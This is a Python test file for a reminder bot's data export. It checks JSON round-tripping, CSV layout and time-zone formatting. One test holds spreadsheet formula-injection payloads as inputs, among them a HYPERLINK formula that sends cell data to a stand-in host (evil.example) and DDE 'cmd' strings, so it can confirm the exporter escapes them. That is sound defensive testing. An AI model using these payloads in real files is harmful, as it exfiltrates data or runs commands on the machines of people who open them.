"""/export's files: the JSON reads back to the very promises stored; the CSV is a table.

``promise_from_export`` is a reader written from the documented JSON shape alone (not
from the storage codec), so these tests check the shape a person or tool would rely on.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import json
from datetime import UTC, datetime, timedelta
from types import UnionType
from typing import Any, Union, get_args, get_origin, get_type_hints
from zoneinfo import ZoneInfo

import pytest

from bot.export import CSV_FIELDS, EXPORT_VERSION, export_files
from core.kinds import KIND_LABELS
from core.models import Draft, Kind, Outcome, Promise, Recurrence, Routine, UserSettings

NOW = datetime(2026, 11, 27, 18, 30, tzinfo=UTC)
_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _read(hint: Any, value: Any) -> Any:
    if get_origin(hint) in (Union, UnionType):
        if value is None:
            return None
        (inner,) = [a for a in get_args(hint) if a is not type(None)]
        return _read(inner, value)
    if get_origin(hint) is tuple:
        args = get_args(hint)
        if len(args) == 2 and args[1] is Ellipsis:
            return tuple(_read(args[0], item) for item in value)
        return tuple(_read(a, item) for a, item in zip(args, value, strict=True))
    if hint is datetime:
        moment = datetime.fromisoformat(value)
        assert moment.tzinfo is not None, "exported times carry their offset"
        return moment
    if hint in (Outcome, Kind):
        return hint(value)
    if dataclasses.is_dataclass(hint):
        return _record(hint, value)
    assert isinstance(value, hint), (hint, value)
    return value


def _record(cls: Any, data: dict[str, Any]) -> Any:
    hints = get_type_hints(cls)
    names = {f.name for f in dataclasses.fields(cls)}
    assert set(data) == names, set(data) ^ names
    return cls(**{name: _read(hints[name], data[name]) for name in names})


def promise_from_export(data: dict[str, Any]) -> Promise:
    promise: Promise = _record(Promise, data)
    return promise


def full_promise(pid: str = "a1b2c3", **changes: Any) -> Promise:
    """Every field set to something other than its default."""
    due = NOW - timedelta(hours=3)
    values: dict[str, Any] = {
        "id": pid,
        "user_id": 42,
        "task": 'call "Mom", then\nSam & co <b>',
        "due": due,
        "created": due - timedelta(days=2),
        "tags": ("#mom", "@sam"),
        "kind": Kind.CALLBACK,
        "kind_corrected": True,
        "outcome": Outcome.LATE,
        "closed": due + timedelta(minutes=25),
        "asked": due,
        "asked_late": True,
        "checkin_message_id": 77,
        "nudged": True,
        "snoozed_until": due + timedelta(minutes=10),
        "snoozes": 2,
        "renegotiations": 1,
        "repair_of": "zz9",
        "routine_id": "r1",
        "source_message_id": 12,
    }
    values.update(changes)
    return Promise(**values)


USER = UserSettings(
    user_id=42,
    chat_id=42,
    tz="Europe/Berlin",
    clock24=False,
    report_day=4,
    last_report_week="2026-11-16",
    draft=Draft("buy milk", ("#home",), NOW),
    created=NOW - timedelta(days=30),
    downtime=((NOW - timedelta(days=3), NOW - timedelta(days=2)),),
)
ROUTINE = Routine("r1", 42, "phone away at breakfast", Recurrence((0, 1, 2), 8, 0), NOW)


def test_every_promise_field_survives_the_json() -> None:
    closed = full_promise()
    open_one = Promise("o1", 42, "buy milk", NOW + timedelta(hours=1), NOW)
    data, _ = export_files(USER, [open_one], [closed], [ROUTINE], NOW)
    document = json.loads(data)
    assert document["format"] == "keepword-export"
    assert document["version"] == EXPORT_VERSION
    assert datetime.fromisoformat(document["exported_at"]) == NOW
    assert [promise_from_export(p) for p in document["promises"]] == [open_one, closed]
    assert _record(UserSettings, document["settings"]) == USER
    assert [_record(Routine, r) for r in document["routines"]] == [ROUTINE]


def test_the_json_is_readable_text() -> None:
    data, _ = export_files(USER, [], [full_promise(task="Kaffee für Jürgen ☕")], [], NOW)
    text = data.decode("utf-8")
    assert "Kaffee für Jürgen ☕" in text  # not \\u escapes
    assert text.startswith("{\n")  # indented for people


def _csv_rows(table: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(table.decode("utf-8"))))


def test_the_csv_has_a_header_and_one_row_per_promise() -> None:
    promises = [full_promise(f"p{n}") for n in range(3)] + [
        Promise("o1", 42, "buy milk", NOW, NOW)
    ]
    _, table = export_files(USER, promises[3:], promises[:3], [], NOW)
    rows = _csv_rows(table)
    assert len(rows) == 4
    assert tuple(rows[0]) == CSV_FIELDS
    first = rows[1]
    assert first["id"] == "p0"
    assert first["task"] == 'call "Mom", then\nSam & co <b>'
    assert first["tags"] == "#mom @sam"
    assert first["outcome"] == "late"
    open_row = rows[0]
    assert (open_row["id"], open_row["outcome"], open_row["closed"]) == ("o1", "", "")


def test_csv_times_are_on_the_users_clock_to_the_minute() -> None:
    # NOW is 18:30 UTC = 19:30 in Berlin (the user's zone); due was 3 hours before.
    closed = full_promise(closed=NOW - timedelta(hours=2, seconds=-7, microseconds=-123))
    _, table = export_files(USER, [], [closed], [], NOW)
    (row,) = _csv_rows(table)
    assert row["due"] == "2026-11-27 16:30"
    assert row["created"] == "2026-11-25 16:30"
    assert row["closed"] == "2026-11-27 17:30"  # no seconds, no microseconds, no offset
    assert row["time_zone"] == "Europe/Berlin"
    assert (
        datetime.strptime(row["due"], "%Y-%m-%d %H:%M").replace(tzinfo=ZoneInfo(row["time_zone"]))
        == closed.due
    )


def test_csv_kinds_are_words() -> None:
    promises = [full_promise(f"p{n}", kind=k) for n, k in enumerate(Kind)]
    _, table = export_files(USER, [], promises, [], NOW)
    assert [row["kind"] for row in _csv_rows(table)] == [KIND_LABELS[k] for k in Kind]
    assert "on_time" not in table.decode()


@pytest.mark.parametrize(
    "task",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_no_csv_cell_runs_as_a_formula(task: str) -> None:
    promise = full_promise(task=task, tags=("@sam", "#home"), repair_of="=1+1")
    _, table = export_files(USER, [], [promise], [], NOW)
    (row,) = _csv_rows(table)
    assert row["task"] == "'" + task  # shown exactly as typed, after the quote
    assert row["tags"] == "'@sam #home"
    assert row["repair_of"] == "'=1+1"
    assert not any(cell.startswith(_FORMULA) for cell in row.values())


def test_harmless_cells_are_left_as_they_are() -> None:
    promise = full_promise(task="call mom = love", tags=("#mom",))
    _, table = export_files(USER, [], [promise], [], NOW)
    (row,) = _csv_rows(table)
    assert (row["task"], row["tags"], row["snoozes"]) == ("call mom = love", "#mom", "2")
